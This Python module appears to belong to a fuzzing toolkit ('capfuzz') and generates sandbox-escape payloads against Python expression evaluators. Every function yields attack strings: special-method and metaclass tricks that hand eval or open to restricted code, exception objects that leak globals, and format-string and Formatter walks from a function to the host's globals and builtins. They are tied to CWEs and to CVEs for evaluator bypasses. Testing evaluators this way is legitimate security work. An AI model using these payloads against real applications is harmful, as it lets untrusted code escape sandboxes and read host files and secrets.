"""Code that is called without a call: special methods, metaclasses, descriptors, exceptions."""

from collections.abc import Iterator

from capfuzz.attacks.evaluators import SECRET_NAME
from capfuzz.attacks.techniques.eval_parts import CANARY, FIELD, READ, evaluated, statements, valued

_CODE = f'"open{READ}"'


@evaluated(
    "eval-special-methods",
    group="special-methods",
    cwe="CWE-184",
    platforms=("python",),
    needs="judges calls, and not what Python calls by itself",
    refs=("https://docs.python.org/3/reference/datamodel.html#special-method-names",),
)
def special_methods() -> Iterator[str]:
    """Give a class a forbidden function as a special method, and let Python call it."""
    yield valued(f"A[{_CODE}]", "class A:", "    __class_getitem__ = eval")
    yield valued(f"A()[{_CODE}]", "class A:", "    __getitem__ = lambda self, code: eval(code)")
    yield valued(
        f"A[{_CODE}]",
        "class M(type):",
        "    __getitem__ = lambda c, x: eval(x)",
        "class A(metaclass=M): pass",
    )
    yield valued(f"A() + {_CODE}", "class A:", "    def __add__(self, code): return eval(code)")
    yield valued(
        f"{_CODE} in A()",
        "class A:",
        '    def __contains__(self, code): return exec(\'open("marker.txt", "w")\')',
    )
    yield statements(f"class result(metaclass=lambda *_: open{READ}): pass")
    yield statements(
        "class A:",
        f"    def __init_subclass__(cls): cls.x = open{READ}",
        "class B(A): pass",
        "result = B.x",
    )
    yield statements(
        "class D:",
        f"    def __set_name__(self, owner, name): owner.y = open{READ}",
        "class A:",
        "    d = D()",
        "result = A.y",
    )
    yield valued(
        "A().x",
        "class D:",
        f"    def __get__(self, *_): return open{READ}",
        "class A:",
        "    x = D()",
    )
    yield valued("A().x", "class A:", f"    x = property(lambda self: open{READ})")
    yield valued("A().x", "class A:", f"    def __getattr__(self, _): return open{READ}")
    yield f"type('A', (), {{'__class_getitem__': eval}})[{_CODE}]"
    yield f"type('A', (), {{'x': property(lambda self: open{READ})}})().x"
    yield f"type('A', (), {{'__call__': lambda self: open{READ}}})()()"
    yield f"type('A', (), {{'__init_subclass__': lambda *_: 0}}).__subclasshook__.__self__.__class__.__base__.__subclasses__(){CANARY}"
    for keyword in ("with A() as result: pass",):
        yield statements(
            "class A:",
            f"    def __enter__(self): return open{READ}",
            "    def __exit__(self, *_): pass",
            keyword,
        )


@evaluated(
    "eval-exception-object",
    group="exceptions",
    cwe="CWE-209",
    platforms=("python",),
    needs="hands exceptions to the code, with the objects that they carry",
    refs=("https://docs.python.org/3/library/exceptions.html#AttributeError",),
)
def exception_object() -> Iterator[str]:
    """Take from an exception the object that it is about, which a format string has reached."""
    for start in ("(lambda: 0)", "print", "setattr", "getattr", "_getattr_"):
        for walk in ("__globals__", "__init__.__globals__", "__globals__[__builtins__]"):
            yield statements(
                "try:",
                f"    '{{0.{walk}.nothing}}'.format({start})",
                "except AttributeError as error:",
                f"    result = error.obj{CANARY}",
            )
    yield statements(
        "try:",
        "    '{0.__self__.nothing}'.format(print)",
        "except AttributeError as error:",
        f"    result = error.obj.open{READ}",
    )
    for carried in ("args[0]", "obj", "value", "object"):
        yield statements(
            "try:",
            "    ().nothing",
            "except Exception as error:",
            f"    result = error.{carried}.__class__.__init__.__globals__{CANARY}",
        )


# What an evaluator may call the value of a field, where it formats fields by itself.
_FIELD_NAMES = ("", "0", "__fstring__", "value", "x", "_", "s", "obj", "val", "v", "self", "arg")
_PATHS = (
    f".__globals__{FIELD}",
    f".__init__.__globals__{FIELD}",
    f".__call__.__globals__{FIELD}",
    f".__class__.__init__.__globals__{FIELD}",
    f".__globals__[_getattr_].__globals__{FIELD}",
    f".__globals__[__builtins__][setattr].__globals__{FIELD}",
    f".__builtins__[setattr].__globals__{FIELD}",
    f".__self__.__spec__.loader.load_module.__globals__{FIELD}",
)
_FORMATTED = (
    "(lambda: 0)",
    "print",
    "open",
    "setattr",
    "getattr",
    "_getattr_",
    "range",
    "sorted",
    "abs",
    "type",
)


@evaluated(
    "eval-format-string",
    group="format-string",
    cwe="CWE-134",
    platforms=("python",),
    needs="leaves the format methods of strings within reach, which walk attributes themselves",
    refs=("CVE-2023-41039", "https://cwe.mitre.org/data/definitions/134.html"),
)
def format_string() -> Iterator[str]:
    """Let a format string walk from its argument to the globals of the host."""
    for start in _FORMATTED:
        for path in _PATHS if start in _FORMATTED[:2] else _PATHS[:2]:
            yield f"'{{0{path}}}'.format({start})"
    for path in (_PATHS[0], _PATHS[4]):
        yield f"'{{f{path}}}'.format_map({{'f': (lambda: 0)}})"
        yield f"'{{f{path}}}'.format(f=(lambda: 0))"
        yield f"str.format('{{0{path}}}', (lambda: 0))"
        yield f"''.__class__.format('{{0{path}}}', (lambda: 0))"
        yield f"list(map('{{0{path}}}'.format, [(lambda: 0)]))[0]"
        yield f"(lambda f: f((lambda: 0)))('{{0{path}}}'.format)"
        yield f"getattr('{{0{path}}}', 'format')((lambda: 0))"
        yield f"f'{{(lambda: 0){path.replace(FIELD, '')}[\"{SECRET_NAME}\"]}}'"
        yield valued(f"'{{0{path}}}'.format(f)", "def f(): pass")
        yield valued(f"'{{f{path}}}'.format_map({{'f': f}})", "def f(): pass")


@evaluated(
    "eval-format-spec",
    group="format-spec",
    cwe="CWE-134",
    platforms=("python",),
    needs="puts a format specification into a format string of its own",
    refs=("CVE-2025-24359", "https://cwe.mitre.org/data/definitions/134.html"),
)
def format_spec() -> Iterator[str]:
    """Close the field within its own specification, and open another one that walks."""
    for name in _FIELD_NAMES:
        for path in _PATHS[:2]:
            spec = f"}}{{{name}{path}"
            yield valued("f'{f:{spec}}'", "def f(): pass", f"spec = {spec!r}")
            yield f"f'{{print:{{{spec!r}}}}}'".replace("'}", '"}').replace(":{'", ':{"')
    for name in _FIELD_NAMES[:5]:
        for start in ("open", "dir", "abs", "setattr", "getattr", "range"):
            spec = f"}}{{{name}{_PATHS[0]}"
            yield f"f'{{{start}:{{\"{spec}\"}}}}'"
        yield f"format((lambda: 0), '}}{{{name}{_PATHS[0]}')"


@evaluated(
    "eval-formatter",
    group="formatter",
    cwe="CWE-134",
    platforms=("python",),
    needs="guards the methods of strings, and hands out the module string",
    refs=("CVE-2024-47532", "https://cwe.mitre.org/data/definitions/134.html"),
)
def formatter() -> Iterator[str]:
    """Let a formatter object do what the format methods are kept from."""
    for before in ((), ("import string",), ("from string import Formatter",)):
        made = "Formatter()" if before and before[0].startswith("from") else "string.Formatter()"
        for start in ("(lambda: 0)", "print", "setattr", "_getattr_"):
            for path in (_PATHS[0], _PATHS[4]):
                walks = [
                    f"{made}.format('{{0{path}}}', {start})",
                    f"{made}.get_field('0{path}', ({start},), {{}})[0]",
                ]
                for walk in walks if path == _PATHS[0] else walks[:1]:
                    yield valued(walk, *before) if before else walk
